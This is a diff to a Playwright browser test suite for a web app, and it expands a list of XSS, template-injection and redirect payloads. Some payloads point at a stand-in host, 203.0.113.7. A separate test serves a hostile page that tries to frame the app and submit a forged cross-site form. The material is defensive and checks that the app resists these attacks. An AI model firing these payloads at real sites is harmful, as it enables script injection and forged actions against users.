@@ -2,29 +2,38 @@
 script is needed."""
 
 import sys
-import threading
-import time
 from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
-import uvicorn
 from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright
 
 sys.path.append(str(Path(__file__).parents[1] / "unit" / "evolve"))
 
 from page_browser import CHROMIUM, FLAGS, WIDTHS, grave_issues, open_everything, tab_to
 from page_browser import enter as sign_in
+from web_served import answering, served
 from web_world import IMAGE, PASSPHRASE, World, add_running_run, add_swap, make_home, make_world
 
 from evolve.tables import CandidateRow, RunEventRow, RunRow
-from evolve.web.app import create_app
 from evolve.web.server import bind
 
-PAYLOAD = (
-    "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
-    '<svg onload="document.title=\'owned\'">\u202e"><style>*{display:none}</style>'
+OWNED = "document.title='owned'"
+PAYLOADS = (
+    f"<script>{OWNED}</script>",
+    f'<img src=x onerror="{OWNED}">',
+    f'<svg onload="{OWNED}">',
+    '\u202e"><style>*{display:none}</style>',
+    f'" autofocus onfocus="{OWNED}" x="',
+    f'</title></textarea></pre></details><iframe srcdoc="<script>parent.{OWNED}</script>"></iframe>',
+    '<img src="http://203.0.113.7/seen"><link rel=stylesheet href=//203.0.113.7/s><base href=//203.0.113.7/>',
+    '<meta http-equiv=refresh content="0;url=http://203.0.113.7/">',
+    f'<a href="javascript:{OWNED}">x</a><form action=//203.0.113.7><button autofocus>x</button></form>',
+    f'<div hx-get="http://203.0.113.7/" hx-trigger="load" hx-on::load="{OWNED}" data-hx-get="/signout"></div>',
+    "{{ ''.__class__ }}{% print(1) %}${7*7}<%= 7*7 %>",
+    f'<math><mtext></form><mglyph><style></math><img src onerror="{OWNED}">',
 )
+PAYLOAD = "".join(PAYLOADS)
 
 pytestmark = [
     pytest.mark.browser,
@@ -43,21 +52,8 @@ def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
 
 @pytest.fixture(scope="module")
 def address(world: World) -> Iterator[str]:
-    listener = bind("127.0.0.1", 0)
-    port = listener.getsockname()[1]
-    server = uvicorn.Server(
-        uvicorn.Config(
-            create_app(world.settings, world.store, world.book.consent, port=port), log_level="warning"
-        )
-    )
-    thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]})
-    thread.start()
-    while not server.started:
-        time.sleep(0.02)
-    yield f"http://127.0.0.1:{port}"
-    server.should_exit = True
-    thread.join()
-    listener.close()
+    with served(world) as found:
+        yield found
 
 
 @pytest.fixture(scope="module")
@@ -116,7 +112,7 @@ def test_sign_in_read_approve(browser: Browser, address: str, world: World, scri
 @pytest.mark.usefixtures("ready")
 @pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (390, "dark")])
 def test_every_page_fits_and_runs_nothing(
-    browser: Browser, address: str, world: World, tmp_path: Path, width: int, scheme: str
+    browser: Browser, address: str, world: World, width: int, scheme: str
 ) -> None:
     with browser.new_context(viewport={"width": width, "height": 844}, color_scheme=scheme) as context:  # type: ignore[arg-type]
         page = enter(context, address)
@@ -133,15 +129,19 @@ def test_every_page_fits_and_runs_nothing(
             "/swaps/swap-1",
         ):
             page.goto(address + path)
+            open_everything(page)
+            page.wait_for_timeout(50)
             assert page.title().endswith("· evolve"), path
-            assert page.locator("script").count() == 0
+            assert page.url == address + path, "sent elsewhere"
+            assert (
+                page.locator("script").count()
+                == path.startswith("/swaps/") * page.locator("script[src]").count()
+            )
+            assert page.locator("main [hx-get], main [onfocus], main [onload], main [onerror]").count() == 0
             assert page.locator("img:not(.brand img), iframe, object, base, style").count() == 0
             assert page.get_by_role("main").is_visible()
             wide = "document.documentElement.scrollWidth > document.documentElement.clientWidth"
             assert not page.evaluate(wide), f"{path} is wider than {width}"
-            page.screenshot(
-                path=tmp_path / f"{width}-{path.strip('/').replace('/', '-') or 'inbox'}.png", full_page=True
-            )
             narrow = (
                 "[...document.querySelectorAll('.asked')].some(e => e.clientWidth < 150 && e.clientWidth > 0)"
             )
@@ -166,9 +166,7 @@ def test_keyboard_alone_is_enough(browser: Browser, address: str) -> None:
 
 
 @pytest.mark.usefixtures("ready")
-def test_another_site_can_neither_frame_nor_post(
-    browser: Browser, address: str, world: World, tmp_path: Path
-) -> None:
+def test_another_site_can_neither_frame_nor_post(browser: Browser, address: str, world: World) -> None:
     """A hostile page in the signed-in browser, on another port of the same machine: the same *site* for
     cookies."""
     target = f"{address}/candidates/{world.candidate_id}"
@@ -176,9 +174,6 @@ def test_another_site_can_neither_frame_nor_post(
         f'<iframe id=f src="{target}"></iframe><form id=x method=post action="{target}/decline">'
         "<input name=nonce value=guess><input name=reason value=forged></form>"
     )
-    (tmp_path / "index.html").write_text(hostile)
-    listener = bind("127.0.0.1", 0)
-    port = listener.getsockname()[1]
 
     async def evil(scope: dict[str, object], receive: object, send: object) -> None:
         if scope["type"] == "http":
@@ -187,24 +182,17 @@ def test_another_site_can_neither_frame_nor_post(
             )  # type: ignore[operator]
             await send({"type": "http.response.body", "body": hostile.encode()})  # type: ignore[operator]
 
-    server = uvicorn.Server(uvicorn.Config(evil, log_level="error", lifespan="off"))  # type: ignore[arg-type]
-    thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]})
-    thread.start()
-    try:
-        with browser.new_context() as context:
-            enter(context, address)
-            page = context.new_page()
-            page.goto(f"http://127.0.0.1:{port}/")
-            inner = page.frames[-1]
-            assert "Decision" not in inner.content(), "framed"
-            with page.expect_navigation():
-                page.evaluate("document.getElementById('x').submit()")
-            assert "Refused" in page.content()
-            assert world.book.decisions == 0
-    finally:
-        server.should_exit = True
-        thread.join()
-        listener.close()
+    with bind("127.0.0.1", 0) as listener, answering(evil, listener), browser.new_context() as context:
+        port = listener.getsockname()[1]
+        enter(context, address)
+        page = context.new_page()
+        page.goto(f"http://127.0.0.1:{port}/")
+        inner = page.frames[-1]
+        assert "Decision" not in inner.content(), "framed"
+        with page.expect_navigation():
+            page.evaluate("document.getElementById('x').submit()")
+        assert "Refused" in page.content()
+        assert world.book.decisions == 0
 
 
 def test_a_run_is_live_without_a_script(browser: Browser, address: str, world: World) -> None:
